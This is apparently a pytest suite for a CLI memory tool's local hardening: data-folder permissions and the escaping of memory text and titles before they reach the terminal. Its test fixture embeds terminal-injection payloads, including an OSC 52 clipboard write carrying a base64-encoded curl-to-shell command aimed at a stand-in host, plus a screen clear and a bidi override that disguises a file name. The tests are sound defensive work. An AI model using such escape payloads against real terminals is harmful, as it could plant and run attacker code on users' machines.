"""Local exposure: the data folder is its owner's alone, and the CLI never lets a memory's
text drive the terminal (escape sequences, control characters, bidirectional overrides)."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from helpers_http import free_port, subprocess_env, unique, write_config

from tribalmemory.cli.main import main
from tribalmemory.cli.output import clean

# A clipboard write (OSC 52), a screen clear, an 8-bit CSI and a right-to-left override.
HOSTILE = (
    "deploy notes \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 then \x1b[2J\x1b[H"
    " \x9b31m red \u202etxt.exe\u202c \r overwritten"
)
BIDI = {
    "\u061c",
    "\u200e",
    "\u200f",
    *map(chr, range(0x2028, 0x202F)),
    *map(chr, range(0x2066, 0x206A)),
}


def assert_safe(text: str) -> None:
    bad = [
        ch for ch in text if ch in BIDI or (unicodedata.category(ch) == "Cc" and ch not in "\n\t")
    ]
    assert not bad, f"raw control characters reached the terminal: {bad!r}"


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def test_the_data_folder_is_private(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "logs").mkdir()
    (home / "lancedb" / "memories.lance").mkdir(parents=True)  # version 0.9's store
    (home / "lancedb" / "memories.lance" / "data.lance").write_text("old")
    (home / "scripts").mkdir()  # not Tribal Memory's: left as it is
    (home / "scripts" / "backup.sh").write_text("#!/bin/sh\n")
    for path, loose in (
        (home, 0o755),
        (home / "logs", 0o755),
        (home / "lancedb", 0o755),
        (home / "lancedb" / "memories.lance", 0o755),
        (home / "lancedb" / "memories.lance" / "data.lance", 0o644),
        (home / "scripts", 0o755),
        (home / "scripts" / "backup.sh", 0o755),
    ):
        os.chmod(path, loose)  # what an older version (and a default umask) left behind
    config = write_config(
        home, server={"port": free_port()}, episodes={"detector_strategy": "embedding"}
    )
    os.chmod(config, 0o644)
    env = subprocess_env(home, tmp_path)

    def cli(*args: str) -> str:
        done = subprocess.run(
            [sys.executable, "-m", "tribalmemory", *args, "--config", str(config)],
            env=env,
            cwd=tmp_path,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert done.returncode == 0, (args, done.stderr)
        return done.stdout

    cli("token", "generate")  # clients read it from <home>/.env
    cli("service", "start")
    try:
        cli("remember", unique("The payroll export runs on the 25th"))
        cli("remember", unique("Payroll exports go to the finance SFTP"))
        cli("recall", "payroll")
    finally:
        cli("service", "stop")

    assert mode(home) == 0o700
    assert mode(home / "scripts") == 0o755 and mode(home / "scripts" / "backup.sh") == 0o755
    for path in home.rglob("*"):
        if path.is_symlink() or path.relative_to(home).parts[0] == "scripts":
            continue
        expected = 0o700 if path.is_dir() else 0o600
        assert mode(path) == expected, f"{path.relative_to(home)}: {oct(mode(path))}"
    names = {p.relative_to(home).as_posix() for p in home.rglob("*")}
    assert {
        ".env",
        "auth.json",
        "identity.json",
        "store",
        "episodes.sqlite3",
        "logs/server.log",
        "logs/daemon.out",
    } <= names, names


def test_clean_escapes_what_a_terminal_would_obey() -> None:
    shown = clean(HOSTILE)
    assert_safe(shown)
    assert "\\x1b]52;c;" in shown and "\\x07" in shown and "\\x9b" in shown
    assert "\\u202e" in shown and "\\x0d" in shown
    assert clean("line one\n\tline two — ünïcode ✓") == "line one\n\tline two — ünïcode ✓"


@pytest.fixture
def local_episodes(tm_home: Path) -> str:
    return str(
        write_config(
            tm_home,
            server={"port": free_port()},
            episodes={"enabled": True, "detector_strategy": "embedding"},
        )
    )


def test_the_cli_escapes_memory_text_and_titles(
    local_episodes: str, capsys: pytest.CaptureFixture[str]
) -> None:
    config = ["--config", local_episodes]

    def run(*args: str) -> tuple[int, str, str]:
        capsys.readouterr()
        code = main([*args, *config])
        out, err = capsys.readouterr()
        assert_safe(out)
        assert_safe(err)
        return code, out, err

    code, _, err = run("remember", HOSTILE, "--tag", "ops\x1b[8m", "--json")
    assert code == 1 and "U+001B" in err and "\\x1b[8m" in err  # refused, and said escaped
    code, out, _ = run("remember", HOSTILE, "--tag", "ops", "--json")
    assert code == 0
    memory_id = json.loads(out)["memory_id"]
    code, out, _ = run("recall", "deploy notes")
    assert code == 0 and memory_id in out and "\\x1b]52;c;" in out
    code, out, _ = run("recall", "deploy notes", "--json")
    assert json.loads(out)["results"][0]["memory"]["content"] == HOSTILE  # the data is intact
    code, out, _ = run("episodes", "create", f"Release {HOSTILE}", memory_id, "--json")
    episode_id = json.loads(out)["episode_id"]
    for args in (
        ["episodes", "list"],
        ["episodes", "show", episode_id, "--timeline"],
        ["episodes", "search", "release deploy"],
        ["episodes", "replay", "release deploy"],
        ["episodes", "chain", episode_id],
        ["episodes", "show", episode_id, "--json"],
    ):
        code, out, _ = run(*args)
        assert code == 0, args
    code, _, err = run("forget", "\x1b[2J\x1b]0;pwned\x07")
    assert code == 1 and "\\x1b[2J" in err


def test_a_data_folder_that_is_a_file_is_refused_and_other_files_are_left_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tribalmemory.config import ConfigError
    from tribalmemory.datafolder import make_private

    file = tmp_path / "notes.txt"
    file.write_text("x")
    with pytest.raises(ConfigError, match="notes.txt is a file, not a folder"):
        make_private(file)
    with pytest.raises(ConfigError, match="is the root folder"):
        make_private(Path("/"))
    home = tmp_path / "me"  # data_dir: ~ by mistake
    (home / "bin").mkdir(parents=True)
    (home / "bin" / "deploy").write_text("#!/bin/sh\n")
    (home / "logs").mkdir()
    for path in (home, home / "bin", home / "bin" / "deploy", home / "logs"):
        os.chmod(path, 0o755)
    monkeypatch.setenv("HOME", str(home))
    make_private(home)
    assert mode(home / "bin") == 0o755 and mode(home / "bin" / "deploy") == 0o755  # not ours
    assert mode(home) == 0o700 and mode(home / "logs") == 0o700


def test_the_cli_names_a_data_folder_that_is_a_file(tmp_path: Path) -> None:
    file = tmp_path / "data"
    file.write_text("x")
    env = {**subprocess_env(tmp_path / "home", tmp_path), "TRIBAL_MEMORY_HOME": str(file)}
    done = subprocess.run(
        [sys.executable, "-m", "tribalmemory", "remember", "A note"],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 2, done.stderr
    assert "the data folder" in done.stderr and "is a file, not a folder" in done.stderr
    assert "Traceback" not in done.stderr
